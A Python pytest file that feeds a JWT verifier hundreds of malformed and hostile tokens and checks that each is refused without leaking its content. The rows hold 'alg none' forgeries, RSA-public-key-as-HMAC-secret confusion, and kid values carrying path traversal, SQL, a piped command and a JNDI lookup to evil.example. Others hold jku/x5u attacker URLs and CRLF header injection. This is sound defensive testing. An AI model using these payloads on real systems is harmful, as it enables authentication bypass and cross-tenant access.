"""Every malformed, hostile or unlucky token, one row each, signed with the right key wherever that is possible."""

from __future__ import annotations

import base64
import hmac
import json
import re
import zlib
from pathlib import Path
from typing import Any

import pytest

from tenantguard import TokenError
from tenantguard.errors import TOKEN_REASONS
from tests.identity.tokens import (
    AUDIENCE,
    ISSUER,
    NOW,
    as_json,
    b64,
    claims,
    ec_key,
    jwk,
    private_pem,
    public_pem,
    rsa_key,
    sign,
    signature,
    token,
    unb64,
    verifier,
)

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
GOOD = token()
HEAD, BODY, SIGNED = GOOD.split(".")
NONE_HEAD = b64(b'{"alg":"none"}')
OTHER_HEAD = b64(b'{"alg":"HS256"}')
STANDARD_HEAD = base64.b64encode(b'{"alg":"HS256","a":"?>?>"}').decode().rstrip("=")


def _resigned(head: str, body: str) -> str:
    """Return segments that were written by hand, with a signature that is right for them."""
    return f"{head}.{body}.{b64(signature(f'{head}.{body}'))}"


def _headed(**members: Any) -> str:
    """Return a token with more in its header."""
    return sign(claims(), header={"typ": "JWT", "alg": "HS256"} | members)


def _unsigned(algorithm: str) -> str:
    return f"{b64(as_json({'alg': algorithm}))}.{BODY}."


def _raw(text: str) -> str:
    """Return a signed token whose payload is exactly this text."""
    return sign(text.encode())


def _bodied(more: str) -> str:
    """Return a signed token whose payload has more members, written by hand."""
    return _raw(json.dumps(claims())[:-1] + "," + more + "}")


def _self_signed(**members: Any) -> str:
    """Return a token that an attacker signed with a key of their own, which the header offers."""
    return sign(
        claims(), header={"alg": "RS256"} | members, key=private_pem(rsa_key("attacker")), algorithm="RS256"
    )


NONE = {
    f"alg {spelling!r}": _unsigned(spelling)
    for spelling in ("none", "None", "NONE", "nOnE", "none ", " none", "none\x00", "NoNe\n", "")
} | {
    "alg none, with the signature of another token": f"{NONE_HEAD}.{BODY}.{SIGNED}",
    "alg none, two segments": f"{NONE_HEAD}.{BODY}",
}
HEADERS = {
    "no alg": _headed(alg=None),
    "alg as a list": _headed(alg=["HS256"]),
    "alg as a number": _headed(alg=256),
    "alg as true": _headed(alg=True),
    "alg as an object": _headed(alg={"name": "HS256"}),
    "alg in lower case": sign(claims(), header={"alg": "hs256"}),
    "alg with a space": sign(claims(), header={"alg": "HS256 "}),
    "alg of another hash": sign(claims(), algorithm="HS512"),
    "alg twice, none last": sign(claims(), header=b'{"alg":"HS256","alg":"none"}'),
    "alg twice, none first": sign(claims(), header=b'{"alg":"none","alg":"HS256"}'),
    "alg twice, one escaped": sign(claims(), header=b'{"alg":"HS256","\\u0061lg":"none"}'),
    "kid as a number": _headed(kid=1),
    "kid as a list": _headed(kid=["a"]),
    "kid as an object": _headed(kid={}),
    "kid a path": _headed(kid="../../../../dev/null"),
    "kid an absolute path": _headed(kid="/etc/passwd"),
    "kid SQL": _headed(kid="x' UNION SELECT 'secret' --"),
    "kid a command": _headed(kid="key|id"),
    "kid a template": _headed(kid="${jndi:ldap://evil.example/a}"),
    "kid with a null byte": _headed(kid="key\x00"),
    "kid with a line feed": _headed(kid="key\r\nX-Tenant-Id: globex"),
    "kid empty": _headed(kid=""),
    "kid very long": _headed(kid="k" * 300),
    "a password-based header": _headed(p2c=10**9, p2s="c2FsdA"),
    "an ephemeral key": _headed(epk=jwk(ec_key())),
    "jku": _headed(jku="https://evil.example/keys"),
    "jwk": _headed(jwk=jwk(rsa_key("attacker"))),
    "x5u": _headed(x5u="https://evil.example/chain"),
    "x5c": _headed(x5c=["MII="]),
    "crit, unknown": _headed(crit=["exp"], exp=1),
    "crit, empty": _headed(crit=[]),
    "crit, null": _headed(crit=None),
    "b64 false": _headed(b64=False, crit=["b64"]),
    "b64 false, not critical": _headed(b64=False),
    "b64 true": _headed(b64=True),
    "zip": _headed(zip="DEF"),
    "compressed payload": sign(zlib.compress(as_json(claims())), header={"alg": "HS256", "zip": "DEF"}),
    "compressed payload, not said": sign(zlib.compress(as_json(claims()))),
    "nested, cty JWT": sign(GOOD.encode(), header={"alg": "HS256", "cty": "JWT"}),
    "nested, not said": sign(GOOD.encode()),
    "nested as a JSON string": sign(as_json(GOOD)),
    "enc": _headed(enc="A256GCM"),
    "typ of a logout token": _headed(typ="logout+jwt"),
    "typ of a DPoP proof": _headed(typ="dpop+jwt"),
    "typ of a security event": _headed(typ="application/secevent+jwt"),
    "typ as a list": _headed(typ=["JWT"]),
    "typ as null": _headed(typ=None),
    "header as a list": sign(claims(), header=[]),
    "header as a string": sign(claims(), header=b'"alg"'),
    "header as null": sign(claims(), header=b"null"),
    "header empty": sign(claims(), header=b""),
    "header in UTF-16": sign(claims(), header='{"alg":"HS256"}'.encode("utf-16")),
    "header with a byte-order mark": sign(claims(), header=b'\xef\xbb\xbf{"alg":"HS256"}'),
    "header with text after it": sign(claims(), header=b'{"alg":"HS256"}{}'),
    "header with a comment": sign(claims(), header=b'{"alg":"HS256"/**/}'),
    "header with a trailing comma": sign(claims(), header=b'{"alg":"HS256",}'),
    "header in single quotes": sign(claims(), header=b"{'alg':'HS256'}"),
    "header nested deeply": sign(claims(), header=b'{"alg":"HS256","a":' + b"[" * 2000 + b"]" * 2000 + b"}"),
    "header with NaN": sign(claims(), header=b'{"alg":"HS256","n":NaN}'),
    "header with invalid UTF-8": sign(claims(), header=b'{"alg":"HS256","n":"\xff"}'),
}
ENCODING = {
    "empty": "",
    "one dot": ".",
    "two dots": "..",
    "three dots": "...",
    "white space": " ",
    "null byte": "\x00",
    "the word null": "null",
    "no signature": f"{HEAD}.{BODY}.",
    "no signature segment": f"{HEAD}.{BODY}",
    "no payload": f"{HEAD}..{SIGNED}",
    "no header": f".{BODY}.{SIGNED}",
    "a fourth segment": f"{GOOD}.x",
    "an empty fourth segment": f"{GOOD}.",
    "a leading dot": f".{GOOD}",
    "five segments, as encrypted": f"{HEAD}.{b64(b'key')}.{b64(b'iv')}.{BODY}.{SIGNED}",
    "truncated by one": GOOD[:-1],
    "truncated signature": f"{HEAD}.{BODY}.{SIGNED[:-4]}",
    "truncated to one byte": f"{HEAD}.{BODY}.{b64(unb64(SIGNED)[:1])}",
    "signature with zeros after it": f"{HEAD}.{BODY}.{b64(unb64(SIGNED) + bytes(1))}",
    "signature of zeros": f"{HEAD}.{BODY}.{b64(bytes(32))}",
    "signature of another token": f"{HEAD}.{BODY}.{token(sub='bob').split('.')[2]}",
    "payload of another token": f"{HEAD}.{token(company_id='globex').split('.')[1]}.{SIGNED}",
    "header of another token": f"{OTHER_HEAD}.{BODY}.{SIGNED}",
    "signature padded": f"{GOOD}=",
    "signature padded twice": f"{GOOD}==",
    "signature padded far": f"{GOOD}====",
    "header padded": _resigned(HEAD + "=" * (-len(HEAD) % 4 or 4), BODY),
    "payload padded": _resigned(HEAD, BODY + "=" * (-len(BODY) % 4 or 4)),
    "a space in the signature": f"{HEAD}.{BODY}.{SIGNED[:5]} {SIGNED[5:]}",
    "a line feed at the end": f"{GOOD}\n",
    "a carriage return in the payload": _resigned(HEAD, f"{BODY[:4]}\r{BODY[4:]}"),
    "a tab at the beginning": f"\t{GOOD}",
    "a line feed in the header": _resigned(f"{HEAD[:4]}\n{HEAD[4:]}", BODY),
    "a foreign character in the payload": _resigned(HEAD, f"{BODY[:4]}!{BODY[4:]}"),
    "standard base64": _resigned(STANDARD_HEAD, BODY),
    "plus for minus in the signature": f"{HEAD}.{BODY}.{SIGNED[:-2]}+/",
    "unused bits set": f"{HEAD}.{BODY}.{SIGNED[:-1]}{ALPHABET[ALPHABET.index(SIGNED[-1]) + 1]}",
    "full-width look-alike dots": GOOD.replace(".", "\uff0e"),
    "a Cyrillic look-alike in the signature": f"{HEAD}.{BODY}.\u0430{SIGNED[1:]}",
    "a lone surrogate": f"{GOOD}\udcff",
    "percent encoding": GOOD.replace(".", "%2e"),
    "JSON serialisation": json.dumps({"protected": HEAD, "payload": BODY, "signature": SIGNED}),
    "general JSON serialisation": json.dumps(
        {"payload": BODY, "signatures": [{"protected": HEAD, "signature": SIGNED}]}
    ),
    "two tokens": f"{GOOD},{GOOD}",
    "quoted": f'"{GOOD}"',
    "with its scheme": f"Bearer {GOOD}",
    "oversized": token(more="x" * 9000),
    "oversized garbage": "A" * 100_000,
    "a path": "../../../../etc/passwd",
    "SQL": "' OR 1=1 --",
    "header injection": f"{GOOD}\r\nX-Tenant-Id: globex",
}
PAYLOADS = {
    "payload as a list": sign([claims()]),
    "payload as a string": sign(b'"acme"'),
    "payload as a number": sign(b"1"),
    "payload as null": sign(b"null"),
    "payload empty": sign(b""),
    "payload an empty object": sign({}),
    "payload not JSON": sign(b"acme"),
    "payload truncated": sign(as_json(claims())[:-1]),
    "payload with text after it": sign(as_json(claims()) + b" x"),
    "payload in UTF-16": sign(json.dumps(claims()).encode("utf-16")),
    "payload in UTF-32": sign(json.dumps(claims()).encode("utf-32")),
    "payload with a byte-order mark": sign(b"\xef\xbb\xbf" + as_json(claims())),
    "payload with invalid UTF-8": sign(as_json(claims())[:-1] + b',"n":"\xff"}'),
    "payload with an overlong encoding": sign(as_json(claims())[:-1] + b',"n":"\xc0\xae"}'),
    "payload nested deeply": sign(as_json(claims())[:-1] + b',"n":' + b"[" * 2500 + b"]" * 2500 + b"}"),
    "payload nested as deep as JSON goes": sign(
        as_json(claims())[:-1] + b',"n":' + b"[" * 400 + b"]" * 400 + b"}"
    ),
    "payload with objects nested deeply": sign(
        as_json(claims())[:-1] + b',"n":' + b'{"a":' * 40 + b"1" + b"}" * 41
    ),
    "payload with a number of thousands of digits": _bodied('"n":' + "9" * 5000),
    "company twice, another last": _bodied('"company_id":"globex"'),
    "company twice, the same": _bodied('"company_id":"acme"'),
    "company twice, one escaped": _bodied('"company\\u005fid":"globex"'),
    "sub twice": _bodied('"sub":"root"'),
    "exp twice": _bodied(f'"exp":{NOW + 9e6}'),
    "aud twice": _bodied('"aud":"api"'),
    "iss twice": _bodied('"iss":"https://idp.example"'),
    "a nested member twice": _bodied('"org":{"id":1,"id":2}'),
    "a member NaN": _bodied('"n":NaN'),
    "a member Infinity": _bodied('"n":-Infinity'),
    "a member beyond every float": _bodied('"n":1e999'),
    "a control character in a string": _bodied('"n":"\x01"'),
}
TIMES = {
    "exp missing": token(exp=...),
    "exp null": token(exp=None),
    "exp as a string": token(exp=str(int(NOW + 600))),
    "exp as a text": token(exp="tomorrow"),
    "exp empty": token(exp=""),
    "exp true": token(exp=True),
    "exp as a list": token(exp=[NOW + 600]),
    "exp as an object": token(exp={"$gt": 0}),
    "exp zero": token(exp=0),
    "exp negative": token(exp=-1),
    "exp a hugely negative number": token(exp=-(10**30)),
    "exp huge": token(exp=10**30),
    "exp a huge float": token(exp=1e308),
    "exp of two to the 63rd": token(exp=2**63),
    "exp in milliseconds": token(exp=(NOW + 600) * 1000),
    "exp one digit too long": token(exp=99_999_999_999),
    "exp NaN": _raw(json.dumps(claims(exp=float("nan")))),
    "exp Infinity": _raw(json.dumps(claims(exp=float("inf")))),
    "exp beyond every float": _raw(json.dumps(claims(exp=0)).replace('"exp": 0', '"exp": 1e999')),
    "expired": token(exp=NOW - 1),
    "expiring this moment": token(exp=NOW),
    "expired by a fraction": token(exp=NOW - 0.001),
    "nbf in the future": token(nbf=NOW + 1),
    "nbf as a string": token(nbf="0"),
    "nbf null": token(nbf=None),
    "nbf true": token(nbf=True),
    "nbf negative": token(nbf=-1),
    "nbf huge": token(nbf=1e300),
    "iat in the future": token(iat=NOW + 1),
    "iat as a string": token(iat=str(NOW)),
    "iat null": token(iat=None),
    "iat as a list": token(iat=[]),
    "iat negative": token(iat=-5),
}
IDENTITY = {
    "sub missing": token(sub=...),
    "sub null": token(sub=None),
    "sub empty": token(sub=""),
    "sub blank": token(sub=" "),
    "sub a number": token(sub=42),
    "sub zero": token(sub=0),
    "sub true": token(sub=True),
    "sub a list": token(sub=["ada"]),
    "sub an object": token(sub={"id": "ada"}),
    "sub with a line feed": token(sub="ada\nroot"),
    "sub with a null byte": token(sub="ada\x00"),
    "sub with a lone surrogate": token(sub="\ud800"),
    "sub turned around": token(sub="ada\u202eroot"),
    "iss missing": token(iss=...),
    "iss of another": token(iss="https://evil.example"),
    "iss with a slash more": token(iss=ISSUER + "/"),
    "iss in upper case": token(iss=ISSUER.upper()),
    "iss with a white space": token(iss=ISSUER + " "),
    "iss a prefix": token(iss=ISSUER[:-1]),
    "iss longer": token(iss=ISSUER + ".evil.example"),
    "iss a list": token(iss=[ISSUER]),
    "iss an object": token(iss={ISSUER: True}),
    "iss null": token(iss=None),
    "iss a number": token(iss=1),
    "aud missing": token(aud=...),
    "aud null": token(aud=None),
    "aud of another": token(aud="billing"),
    "aud empty": token(aud=""),
    "aud a prefix": token(aud=AUDIENCE[:-1]),
    "aud longer": token(aud=AUDIENCE + "s"),
    "aud words": token(aud=f"{AUDIENCE} billing"),
    "aud an empty list": token(aud=[]),
    "aud a list of others": token(aud=["billing", "admin"]),
    "aud a list with a number": token(aud=[AUDIENCE, 1]),
    "aud a list in a list": token(aud=[[AUDIENCE]]),
    "aud an object": token(aud={AUDIENCE: 1}),
    "aud true": token(aud=True),
}
COMPANY = {
    "company very long": token(company_id="a" * 256),
    "company null": token(company_id=None),
    "company empty": token(company_id=""),
    "company blank": token(company_id=" "),
    "company of tabs": token(company_id="\t\t"),
    "company a list": token(company_id=["acme"]),
    "company two": token(company_id=["acme", "globex"]),
    "company an empty list": token(company_id=[]),
    "company an object": token(company_id={"id": "acme"}),
    "company an operator": token(company_id={"$ne": ""}),
    "company true": token(company_id=True),
    "company false": token(company_id=False),
    "company a number where text belongs": token(company_id=42),
    "company zero": token(company_id=0),
    "company a fraction": token(company_id=1.5),
    "company with a white space before": token(company_id=" acme"),
    "company with a white space after": token(company_id="acme "),
    "company with a line feed": token(company_id="acme\n"),
    "company with a null byte": token(company_id="acme\x00"),
    "company with a null byte inside": token(company_id="acme\x00globex"),
    "company with a no-break space": token(company_id="acme\u00a0"),
    "company with a zero-width space": token(company_id="ac\u200bme"),
    "company with a zero-width joiner": token(company_id="acme\u200d"),
    "company with a byte-order mark": token(company_id="\ufeffacme"),
    "company with a soft hyphen": token(company_id="ac\u00adme"),
    "company turned around": token(company_id="\u202eemca"),
    "company with a lone surrogate": token(company_id="acme\ud800"),
    "company with a private character": token(company_id="acme\ue000"),
    "company with a variation selector": token(company_id="acme\ufe0f"),
    "company with an invisible mark": token(company_id="ac\u034fme"),
    "company with an invisible letter": token(company_id="acme\u1160"),
    "company with a blank pattern": token(company_id="acme\u2800"),
    "company with an Armenian letter among Latin ones": token(company_id="ac\u0578e"),
    "company with a Cyrillic letter among Latin ones": token(company_id="\u0430cme"),
    "company with a Greek letter among Latin ones": token(company_id="acm\u03b5"),
    "company in full width": token(company_id="\uff41\uff43\uff4d\uff45"),
    "company in mathematical letters": token(company_id="\U0001d41a\U0001d41c\U0001d426\U0001d41e"),
    "company with a ligature": token(company_id="\ufb01rm"),
    "company not normalised": token(company_id="cafe\u0301"),
}
FORGED = {
    "another secret": sign(claims(), key="another secret that is long enough to be one"),
    "an empty secret": f"{HEAD}.{BODY}.{b64(b'')}",
    "a secret with a line feed more": sign(
        claims(), key="correct horse battery staple, and then some more of it\n"
    ),
    "RS256 by the attacker": _self_signed(),
    "RS256 by the attacker, jwk": _self_signed(jwk=jwk(rsa_key("attacker"))),
    "RS256 by the attacker, kid a path": _self_signed(kid="../../../../dev/null"),
    "RS256 by the attacker, kid SQL": _self_signed(kid="' UNION SELECT 'secret' --"),
    "RS256 by the attacker, kid a command": _self_signed(kid="|id"),
}
ROWS = NONE | HEADERS | ENCODING | PAYLOADS | TIMES | IDENTITY | COMPANY | FORGED


@pytest.mark.parametrize("hostile", ROWS.values(), ids=ROWS.keys())
async def test_a_hostile_token_is_refused(hostile: str) -> None:
    """Each is a TokenError with a code of RFC 6750, whatever the parsers below make of it."""
    with pytest.raises(TokenError) as caught:
        await verifier().verify(hostile)
    assert caught.value.code in ("invalid_token", "invalid_request")


@pytest.mark.parametrize("hostile", ROWS.values(), ids=ROWS.keys())
async def test_a_refusal_tells_nothing_of_the_token(hostile: str) -> None:
    """Neither the message nor the reason holds a segment of the token or the content of a claim."""
    with pytest.raises(TokenError) as caught:
        await verifier().verify(hostile)
    told = f"{caught.value} {caught.value.reason}"
    assert not any(part in told for part in (hostile[:40], "acme", "ada", "globex") if len(part) > 2)


async def test_the_token_that_the_rows_are_made_from_is_good() -> None:
    """Otherwise the rows above would prove nothing."""
    principal = await verifier().verify(GOOD)
    assert (principal.subject, principal.tenant) == ("ada", "acme")


NOWHERE = {
    "missing": token(company_id=...),
    "under another name": token(company_id=..., tenant_id="acme"),
    "in another case of the name": token(company_id=..., Company_Id="acme"),
    "in a nested object": token(company_id=..., claims={"company_id": "acme"}),
}


@pytest.mark.parametrize("hostile", NOWHERE.values(), ids=NOWHERE.keys())
async def test_a_company_that_is_not_where_it_belongs_is_none(hostile: str) -> None:
    """The principal names its subject and no company, whatever else the token holds."""
    principal = await verifier().verify(hostile)
    assert (principal.subject, principal.tenant, principal.tenants) == ("ada", None, ())


SHAPES = {
    "a number": {"permissions": 1},
    "an object": {"permissions": {"admin": True}},
    "a list with a number": {"permissions": ["read", 1]},
    "an object before words": {"permissions": {"admin": True}, "scope": "admin"},
    "a list of lists": {"scope": [["admin"]]},
}


@pytest.mark.parametrize("held", SHAPES.values(), ids=SHAPES.keys())
async def test_permissions_of_another_shape_grant_nothing(held: dict[str, Any]) -> None:
    """And refuse nobody, unless the application named the claim."""
    assert (await verifier().verify(token(**held))).permissions == frozenset()
    with pytest.raises(TokenError, match="permissions"):
        await verifier(permissions_claim=("permissions", "scope")).verify(token(**held))


CONFUSION = {
    f"{how} as the secret of {algorithm}": (algorithm, material)
    for algorithm in ("HS256", "HS384", "HS512")
    for how, material in {
        "the PEM": public_pem(rsa_key()).encode(),
        "the PEM without its last line feed": public_pem(rsa_key()).strip().encode(),
        "the modulus": rsa_key().public_key().public_numbers().n.to_bytes(256, "big"),
        "the JWK": as_json(jwk(rsa_key())),
    }.items()
}


@pytest.mark.parametrize(("algorithm", "material"), CONFUSION.values(), ids=CONFUSION.keys())
async def test_a_public_key_is_never_a_secret(algorithm: str, material: bytes) -> None:
    """A token signed by HMAC with the bytes of the public key does not pass where RS256 is expected."""
    signing_input = f"{b64(as_json({'alg': algorithm}))}.{BODY}"
    forged = hmac.digest(material, signing_input.encode(), algorithm.replace("HS", "sha"))
    with pytest.raises(TokenError, match="algorithm"):
        await verifier(key=public_pem(rsa_key()), algorithms=["RS256"]).verify(
            f"{signing_input}.{b64(forged)}"
        )


@pytest.mark.parametrize("algorithm", ["ES256", "ES384", "PS256", "RS384"])
async def test_an_algorithm_that_is_allowed_must_agree_with_the_key(algorithm: str) -> None:
    """A token that names ES256 is not tried against an RSA key, nor by a hash that the key's JWK excludes."""
    keys = [jwk(rsa_key(), alg="RS256", kid="r"), jwk(ec_key(), kid="e")]
    pinned = verifier(key={"keys": keys}, algorithms=["RS256", "RS384", "PS256", "ES256", "ES384"])
    key = (
        rsa_key()
        if algorithm[0] in "PR"
        else ec_key(curve="secp384r1" if algorithm == "ES384" else "secp256r1")
    )
    kid = "e" if algorithm[0] in "PR" else "r"
    forged = sign(claims(), header={"alg": algorithm, "kid": kid}, key=private_pem(key), algorithm=algorithm)
    with pytest.raises(TokenError, match="signature"):
        await pinned.verify(forged)


def test_each_reason_is_in_the_documentation() -> None:
    """With what the client is told; and nothing raises a reason that is not listed."""
    root = Path(__file__).parents[2]
    page = (root / "docs" / "identity.md").read_text()
    rows = dict(re.findall(r"^\| `(\w+)` \| ([A-Z].*) \|$", page, re.MULTILINE))
    assert rows == dict(TOKEN_REASONS)
    modules = [*root.glob("tenantguard/identity/*.py"), *root.glob("tenantguard/asgi/*.py")]
    raised = {reason for path in modules for reason in re.findall(r'reason="(\w+)"', path.read_text())}
    assert raised <= TOKEN_REASONS.keys()
